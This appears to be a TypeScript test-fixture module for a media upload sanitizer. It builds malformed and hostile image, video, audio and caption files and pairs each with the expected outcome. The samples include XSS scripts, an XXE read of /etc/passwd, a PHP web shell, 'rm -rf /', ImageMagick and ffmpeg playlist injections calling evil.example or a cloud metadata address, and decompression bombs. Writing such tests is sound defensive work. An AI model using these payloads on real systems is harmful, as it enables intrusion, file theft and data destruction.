import { deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { clip, clipOf, film, picture, tone } from './clips.ts'

/** What happens to a file: refused at once by its bytes, failed with a cause, or made harmless. */
export type Fate = `refused ${string}` | `failed ${string}` | `ready ${'IMAGE' | 'VIDEO' | 'AUDIO'}`
export type Case = readonly [what: string, bytes: Buffer, fate: Fate]

const bytesOf = (...parts: readonly (string | readonly number[] | Buffer)[]): Buffer =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part))))
const noise = (size: number): Buffer => Buffer.alloc(size, 7)
const script = '<script>alert(document.domain)</script>'
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`
const photo = (width = 64, height = 48) => sharp({ create: { width, height, channels: 3, background: '#3a7d44' } })

/** Files announced as JPEG that are nothing of the kind. */
const notPictures: readonly [string, Buffer][] = [
  ['one byte', bytesOf([0xff])],
  ['text', bytesOf('these are words and no picture at all')],
  ['SVG with a script', bytesOf(svg)],
  [
    'SVG behind a declaration and an entity',
    bytesOf(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg}`),
  ],
  ['compressed SVG', gzipSync(svg)],
  ['HTML', bytesOf(`<!doctype html>${script}`)],
  ['a PDF with a script', bytesOf('%PDF-1.7\n1 0 obj <</Type/Action/S/JavaScript/JS(app.alert(1))>>')],
  ['a zip', bytesOf('PK\u0003\u0004', noise(100))],
  ['a zip in a zip in gzip', gzipSync(gzipSync(bytesOf('PK\u0003\u0004', Buffer.alloc(1_000_000))))],
  ['a tar', bytesOf('../../etc/passwd', Buffer.alloc(240), 'ustar')],
  ['a program for Linux', bytesOf('\u007fELF\u0002\u0001\u0001', noise(100))],
  ['a program for Windows', bytesOf('MZ\u0090\u0000', noise(100))],
  ['a shell script', bytesOf('#!/bin/sh\nrm -rf / --no-preserve-root\n')],
  ['PHP', bytesOf('<?php system($_GET["c"]); ?>            ')],
  ['PostScript', bytesOf('%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (r) file')],
  ['a drawing for ImageMagick', bytesOf('push graphic-context\nfill \'url(https://evil.example/"|id")\'')],
  ['an icon', bytesOf([0, 0, 1, 0, 1, 0, 16, 16, 0, 0, 1, 0, 32, 0], noise(40))],
  ['a bitmap', bytesOf('BM', noise(100))],
  ['a Photoshop file', bytesOf('8BPS\u0000\u0001', noise(100))],
  ['a metafile', bytesOf([0xd7, 0xcd, 0xc6, 0x9a], noise(100))],
]

/** Files announced as MP4 that are nothing of the kind: most try to open another file, or an address. */
const notFilms: readonly [string, Buffer][] = [
  [
    'a playlist of a local file',
    bytesOf('#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n'),
  ],
  [
    'a playlist of an address',
    bytesOf('#EXTM3U\n#EXTINF:1,\nhttp://169.254.169.254/latest/meta-data/\n#EXT-X-ENDLIST\n'),
  ],
  ['a playlist that joins files', bytesOf('#EXTM3U\n#EXTINF:1,\nconcat:http://evil.example/x|file:///etc/passwd\n')],
  ['a playlist behind a byte order mark', bytesOf([0xef, 0xbb, 0xbf], '#EXTM3U\n#EXTINF:1,\n/etc/passwd\n')],
  ['a list of files', bytesOf("ffconcat version 1.0\nfile '/etc/passwd'\n")],
  [
    'a description of a stream',
    bytesOf('v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\n'),
  ],
  ['a manifest', bytesOf('<?xml version="1.0"?><MPD><BaseURL>http://127.0.0.1/</BaseURL></MPD>')],
  [
    'an AVI with a playlist in it',
    bytesOf('RIFF', [0, 1, 0, 0], 'AVI LIST', noise(100), 'GAB2#EXTM3U\nfile:///etc/passwd'),
  ],
  ['a stream of packets', bytesOf(...Array.from({ length: 5 }, () => bytesOf([0x47], noise(187))))],
  ['a Flash film', bytesOf('FLV\u0001\u0005', noise(100))],
  ['a Flash program', bytesOf('CWS\u000a', noise(100))],
  ['a Windows stream', bytesOf([0x30, 0x26, 0xb2, 0x75, 0x8e, 0x66, 0xcf, 0x11], noise(100))],
  ['a container of no known kind', bytesOf([0x1a, 0x45, 0xdf, 0xa3, 0x84, 0x42, 0x82, 0x81], 'x', noise(100))],
  ['subtitles with a script', bytesOf(`1\n00:00:00,000 --> 00:00:01,000\n${script}\n`)],
  ['HTML', bytesOf(`<!doctype html><video src=x onerror=alert(1)>${script}`)],
]

const chunk = (type: string, data: Buffer): Buffer => {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  return Buffer.concat([length, Buffer.from(type, 'latin1'), data, Buffer.alloc(4)])
}
const png = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]
/** A PNG that claims to be enormous and contains nothing. */
function pngOf(side: number, data = deflateSync(Buffer.alloc(1000))): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(side, 0)
  head.writeUInt32BE(side, 4)
  head.set([8, 2, 0, 0, 0], 8)
  return bytesOf(png, chunk('IHDR', head), chunk('IDAT', data), chunk('IEND', Buffer.alloc(0)))
}
/** A GIF whose every frame is one pixel on a canvas of 64 megapixels. */
const gifOf = (frames: number): Buffer =>
  bytesOf(
    'GIF89a',
    [0x40, 0x1f, 0x40, 0x1f, 0x80, 0, 0, 0, 0, 0, 255, 255, 255],
    ...Array.from({ length: frames }, () => [
      0x21, 0xf9, 4, 0, 1, 0, 0, 0, 0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0,
    ]),
    [0x3b],
  )

export async function pictures(): Promise<Case[]> {
  const good = await photo().jpeg().toBuffer()
  const tagged = photo().withExif({
    IFD0: { Artist: script },
    IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '52/1 31/1 0/1' },
  })
  const animation = await sharp(
    noise(8 * 8 * 3 * 5).map((_, at) => (at * 7) % 251),
    {
      raw: { width: 8, height: 40, channels: 3, pageHeight: 8 },
    },
  )
    .gif()
    .toBuffer()
  return [
    ...notPictures.map(([what, bytes]): Case => [what, bytes, 'refused NOT_AN_IMAGE']),
    ['a PNG of 30,000 × 30,000', pngOf(30_000), 'failed TOO_MANY_PIXELS'],
    ['a PNG of 2³¹−1 squared', pngOf(0x7fffffff), 'failed CORRUPT'],
    [
      'a PNG that unpacks to a thousand times its size',
      pngOf(7000, deflateSync(Buffer.alloc(30_000_000))),
      'failed CORRUPT',
    ],
    ['a PNG without anything in it', pngOf(16, Buffer.alloc(0)), 'failed CORRUPT'],
    ['a JPEG cut off', good.subarray(0, Math.floor(good.length / 2)), 'failed CORRUPT'],
    ['a JPEG’s head and then a page', bytesOf(good.subarray(0, 20), svg), 'failed CORRUPT'],
    ['a GIF without frames', bytesOf('GIF89a', Buffer.alloc(40)), 'failed CORRUPT'],
    [
      'a WebP that is only its name',
      bytesOf('RIFF\u0010\u0000\u0000\u0000WEBPVP8 ', Buffer.alloc(20)),
      'failed CORRUPT',
    ],
    ['an AVIF that is only its name', bytesOf([0, 0, 0, 24], 'ftypavif', Buffer.alloc(40)), 'failed CORRUPT'],
    ['a TIFF that points at itself', bytesOf([0x49, 0x49, 0x2a, 0, 8, 0, 0, 0], Buffer.alloc(64, 8)), 'failed CORRUPT'],
    ['ten thousand frames on a large canvas', gifOf(10_000), 'failed TOO_MANY_FRAMES'],
    ['a photo that tells where it was taken', await tagged.jpeg().toBuffer(), 'ready IMAGE'],
    ['a photo with a page behind it', bytesOf(good, script), 'ready IMAGE'],
    ['a photo with an archive behind it', bytesOf(good, 'PK\u0003\u0004', noise(100)), 'ready IMAGE'],
    ['one pixel', await photo(1, 1).png().toBuffer(), 'ready IMAGE'],
    ['a picture a thousand times as tall as wide', await photo(8, 8000).png().toBuffer(), 'ready IMAGE'],
    ['a short animation', animation, 'ready IMAGE'],
  ]
}

/** Makes a film claim this duration, in its header and in those of its tracks. */
function lasting(bytes: Buffer, seconds: number): Buffer {
  const changed = Buffer.from(bytes)
  for (const [box, offset] of [
    ['mvhd', 20],
    ['mdhd', 20],
    ['tkhd', 24],
  ] as const) {
    for (let at = changed.indexOf(box); at >= 0; at = changed.indexOf(box, at + 4)) {
      const scale = box === 'tkhd' ? 1000 : changed.readUInt32BE(at + offset - 4)
      changed.writeUInt32BE(Math.min(0xffffffff, seconds * scale), at + offset)
    }
  }
  return changed
}
/** Makes a film look for its data in another file. */
function elsewhere(bytes: Buffer): Buffer {
  const at = bytes.indexOf('url ')
  const changed = Buffer.from(bytes)
  changed.writeUInt32BE(0, at + 4)
  return changed
}

export async function films(): Promise<Case[]> {
  const good = await film()
  const early = await film('-movflags', '+faststart')
  const many = Array.from({ length: 40 }, () => ['-map', '0:a']).flat()
  const vp8 = ['-c:v', 'libvpx', '-deadline', 'realtime']
  return [
    ...notFilms.map(([what, bytes]): Case => [what, bytes, 'refused NOT_MEDIA']),
    ['a film cut off before its table', good.subarray(0, 1500), 'failed CORRUPT'],
    ['a film’s name and then noise', bytesOf([0, 0, 0, 24], 'ftypisom', noise(2000)), 'failed CORRUPT'],
    [
      'a film’s name and then a playlist',
      bytesOf([0, 0, 0, 24], 'ftypisom', Buffer.alloc(12), '#EXTM3U\nfile:///etc/passwd\n'),
      'failed CORRUPT',
    ],
    ['a film that says it lasts twelve hours', lasting(good, 12 * 3600), 'failed TOO_LONG'],
    [
      'a film of 18 megapixels',
      await clip('big.mp4', '-f', 'lavfi', '-i', 'color=s=6000x3000:d=1:r=1', '-c:v', 'mpeg4'),
      'failed TOO_MANY_PIXELS',
    ],
    ['a film of two pixels', await clip('dot.mkv', ...picture('2x2', 1, 2), ...vp8), 'failed TOO_SMALL'],
    ['a film as thin as a thread', await clip('thin.mkv', ...picture('2000x10', 1, 2), ...vp8), 'failed TOO_SMALL'],
    [
      'a file of forty tracks',
      await clip('many.mkv', ...tone(0.1), ...many, '-c:a', 'pcm_s16le'),
      'failed TOO_MANY_TRACKS',
    ],
    [
      'a film in an encoding that nobody plays',
      await clip('odd.mkv', ...picture('64x48'), '-c:v', 'ffv1'),
      'failed CODEC_NOT_TAKEN',
    ],
    ['captions in a film’s container', await clipOfWords(), 'failed NO_PICTURE_OR_SOUND'],
    [
      'a song’s tag and then a page',
      bytesOf('ID3\u0003\u0000\u0000\u0000\u0000\u0000\u0000', script, noise(3000)),
      'failed CORRUPT',
    ],
    ['a sound without samples', (await clip('none.wav', ...tone(0.1))).subarray(0, 60), 'failed CORRUPT'],
    ['a film that breaks off in the middle', early.subarray(0, Math.floor(early.length * 0.7)), 'ready VIDEO'],
    ['a film that looks for its data elsewhere', elsewhere(good), 'ready VIDEO'],
    ['a film with a page behind it', bytesOf(good, script), 'ready VIDEO'],
    ['a film with odd sides', await clip('odd.mkv', ...picture('65x33'), ...vp8), 'ready VIDEO'],
    [
      'a film whose clock jumps by hours',
      await clip('jump.mkv', ...picture('64x48'), '-vf', 'setpts=N*3000/TB', '-vsync', 'vfr', ...vp8),
      'ready VIDEO',
    ],
    [
      'a film of a thousand pictures a second',
      await clip('fast.mkv', ...picture('64x48', 0.5, 1000), ...vp8),
      'ready VIDEO',
    ],
    ['a stream that does not say where it ends', await endless(), 'ready VIDEO'],
    [
      'a film with words of a script',
      await film('-metadata', `title=${script}`, '-metadata', 'location=+52.51+013.38/'),
      'ready VIDEO',
    ],
    ['a film with an attachment', await attached(), 'ready VIDEO'],
    ['sound that is said to be a film', await clip('voice.webm', ...tone(), '-c:a', 'libopus'), 'ready AUDIO'],
    [
      'a song with an archive behind it',
      bytesOf(await clip('song.mp3', ...tone()), 'PK\u0003\u0004', noise(100)),
      'ready AUDIO',
    ],
    ['a sound that says it has four gigabytes', sized(await clip('huge.wav', ...tone())), 'ready AUDIO'],
    ['silence', await clip('still.mp3', '-f', 'lavfi', '-i', 'anullsrc', '-t', '1'), 'ready AUDIO'],
  ]
}

const words = { 'words.srt': `1\n00:00:00,000 --> 00:00:01,000\n${script}\n`, 'run.sh': '#!/bin/sh\nid\n' }
const clipOfWords = (): Promise<Buffer> => clipOf(words, 'words.mkv', '-i', 'words.srt', '-c:s', 'srt')
const attached = (): Promise<Buffer> =>
  clipOf(
    words,
    'held.mkv',
    ...picture('64x48'),
    '-i',
    'words.srt',
    '-map',
    '0',
    '-map',
    '1',
    '-c:v',
    'libvpx',
    '-c:s',
    'srt',
    '-attach',
    'run.sh',
    '-metadata:s:t',
    'mimetype=application/x-sh',
  )
/** As a browser records: no length, no table. */
const endless = (): Promise<Buffer> =>
  clip('live.webm', ...picture('64x48'), '-c:v', 'libvpx', '-deadline', 'realtime', '-f', 'webm', '-live', '1')
function sized(wav: Buffer): Buffer {
  const changed = Buffer.from(wav)
  changed.writeUInt32LE(0xfffffff0, 4)
  const data = changed.indexOf('data')
  changed.writeUInt32LE(0xffffff00, data + 4)
  return changed
}

/** Captions that are invalid, or contain more than captions. */
export const captions: readonly (readonly [what: string, bytes: Buffer])[] = [
  ['no captions but a page', bytesOf(`<!doctype html>${script}`)],
  ['captions of another kind', bytesOf('{0}{25}Hello\n')],
  ['noise that begins like captions', bytesOf('WEBVTT\n\n', noise(100))],
  ['captions with a zero byte', bytesOf('WEBVTT\n\n00:00.000 --> 00:01.000\nHel\u0000lo\n')],
  ['captions that end before they begin', bytesOf('WEBVTT\n\n00:02.000 --> 00:01.000\nHello\n')],
  [
    'captions without a word',
    bytesOf('WEBVTT\n\nNOTE nothing\n\nSTYLE\n::cue { background: url(https://evil.example/) }\n'),
  ],
  ['a picture', bytesOf(png, noise(100))],
]
